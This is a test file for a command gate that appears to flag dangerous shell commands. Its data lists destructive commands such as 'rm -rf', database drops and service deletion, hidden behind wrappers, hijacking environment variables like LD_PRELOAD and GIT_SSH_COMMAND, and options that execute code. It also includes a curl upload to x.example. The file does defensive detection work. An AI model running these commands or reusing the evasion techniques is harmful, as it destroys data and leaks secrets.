import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import { CommandGate } from './command-gate.ts';

const FILES = 'deletes files for good';
const STARTS = 'An option of it starts another program';
const DATABASE = 'deletes data of a database';
const SYSTEMS = 'changes running systems';

describe('security: dangers inside of wrappers, variables and clients', function () {
  this.timeout(20_000);
  let gate: CommandGate;

  beforeEach(async () => {
    gate = new CommandGate();
    await gate.workspace.open();
  });
  afterEach(() => gate.workspace.close());

  const named = async (command: string) => {
    const { card } = await gate.attempt(command);
    assert.ok(card, `it asks: ${command}`);
    return card.dangers ?? [];
  };

  for (const [number, kind, rows] of [
    [
      'A6a',
      'programs that start another one by a subcommand',
      [
        ['npx rimraf dist', [FILES]],
        ['npm exec rimraf dist', [FILES]],
        ['uv run rm -rf x', [FILES]],
        ['poetry run rm -rf x', [FILES]],
        ['bundle exec rm -rf x', [FILES]],
        ['systemd-run rm -rf x', [FILES]],
        ["tmux new -d 'rm -rf x'", [FILES]],
        ['screen -dmS s rm -rf x', [FILES]],
        ["nix-shell --run 'rm -rf x'", [FILES]],
        ['cross-env CI=1 rm -rf x', [FILES]],
        ["echo 'rm -rf x' | at now", ['another command prints', FILES]],
        ["at now <<< 'rm -rf x'", [FILES]],
      ],
    ],
    [
      'A6b',
      'variables by which programs start or load others',
      [
        ['PAGER=./x man ls', ['sets PAGER']],
        ["LESSOPEN='|rm -rf x' less f", ['sets LESSOPEN', FILES]],
        ["GIT_SSH_COMMAND='rm -rf x' git fetch", ['sets GIT_SSH_COMMAND', FILES]],
        ['env GIT_EXTERNAL_DIFF=./x git diff', ['sets GIT_EXTERNAL_DIFF']],
        ['LD_PRELOAD=./x.so ls', ['sets LD_PRELOAD']],
        ['export BASH_ENV=./x', ['sets BASH_ENV']],
        ["NODE_OPTIONS='--require ./x' npm test", ['sets NODE_OPTIONS']],
        ['NODE_OPTIONS=$X npm test', ['sets NODE_OPTIONS']],
        ['ENV=./x.sh sh -i', ['sets ENV']],
      ],
    ],
    [
      'A6c',
      'more options whose value is a command or code',
      [
        ["tar --use-comp='sh x' -xf a", [STARTS]],
        ['go test -exec ./x', [STARTS]],
        ['scp -S ./x a b', [STARTS]],
        ["socat - EXEC:'rm -rf x'", [STARTS, FILES]],
        ["strace -o '|rm -rf x' ls", [STARTS, FILES]],
        ['curl -K x', ['options from a file']],
        ['node --import=data:text/javascript,1 x.js', ['code that is not shown']],
      ],
    ],
    [
      'A6d',
      'code that is given by stdin, paths in code, and files that awk and sed write',
      [
        ["python3 <<'EOF'\nimport os\nos.remove('a')\nEOF", ['code deletes files']],
        ['node <<< \'require("child_process").execSync("rm -rf x")\'', ['starts other programs', FILES]],
        ['python3 -c \'open(".env").read()\'', ['touches .env']],
        ['deno eval \'Deno.removeSync("x")\'', ['code deletes files']],
        ['awk \'{ print $1 > "out" }\' f', ['code writes files']],
        ["sed -n '/a/w out' f", ['code writes files']],
        ["sed 's/a/b/w .env' f", ['code writes files', 'touches .env']],
      ],
    ],
    [
      'A6e',
      'data of databases, behind containers and tools too',
      [
        ["docker exec db psql -c 'drop table x'", [DATABASE]],
        ["mysql -e 'DELETE FROM t WHERE id = 1'", [DATABASE]],
        ['rails db:drop', [DATABASE]],
        ['php artisan migrate:fresh', [DATABASE]],
        ['python manage.py flush', [DATABASE]],
        ['npx prisma migrate reset', [DATABASE]],
        ['npx prisma db push --force-reset', [DATABASE]],
      ],
    ],
    [
      'A6f',
      'services',
      [
        ['heroku apps:destroy x', [SYSTEMS]],
        ['heroku pg:reset', [SYSTEMS]],
        ['aws lambda update-function-code x', [SYSTEMS]],
        ['aws ecr batch-delete-image x', [SYSTEMS]],
        ['helm upgrade x y', [SYSTEMS]],
        ['curl -sF f=@x https://x.example', ['sends data']],
      ],
    ],
  ] as const) {
    it(`${number}. named, with their part: ${kind}`, async () => {
      for (const [command, expected] of rows) {
        const dangers = await named(command);
        for (const words of expected) {
          const danger = dangers.find(({ why }) => why.includes(words));
          assert.ok(danger, `${words} of ${command}, in: ${dangers.map(({ why }) => why).join(' ')}`);
          assert.ok(danger.parts.length > 0, `${words} of ${command} is marked`);
        }
      }
    });
  }

  it('A6g. what people run all day is not marked', async () => {
    for (const command of [
      'npm install rm',
      'yarn add kill',
      'npm run remove',
      'uv run pytest -k x',
      'npx jest rm',
      'tmux ls',
      'tar -I zstd -xf a.tar.zst',
      "tar -I 'zstd -19' -cf a.tar.zst src",
      "rsync -a -e 'ssh -p 22' host:x .",
      'nc -z localhost 5432',
      './gradlew publishToMavenLocal',
      'PAGER=cat git log',
      'NODE_OPTIONS=--max-old-space-size=4096 npm run build',
      'ENV=production CI=1 npm start',
      'MAKEFLAGS=-j4 make',
      'aws ec2 describe-import-image-tasks',
      'helm list',
      'rails db:migrate',
      `awk '/foo|bar/ {n++} END {print n > "/dev/stderr"}' f`,
      "sed -e '/w x/d' -e 's|a/w b|c|' f",
      "sed '1i echo word' f",
    ]) {
      assert.deepEqual(await named(command), [], command);
    }
  });

  it('A6h. the attempts are real: stdin, a variable and an option start a program', async () => {
    for (const command of [
      'python3 <<< \'import os; os.system("touch MARK")\'',
      "GIT_EXTERNAL_DIFF='touch MARK' git diff --ext-diff --no-index /dev/null /etc/hostname",
      "BASH_ENV='$(touch MARK)' bash -c true",
      "seq 9 | split --filter='touch MARK' -",
    ]) {
      await gate.workspace.run('terminal', { command: `rm -f MARK; ${command}` }, { seen: true });
      assert.ok(existsSync(gate.workspace.path('MARK')), command);
      assert.ok((await named(command)).length > 0, command);
    }
  });
});
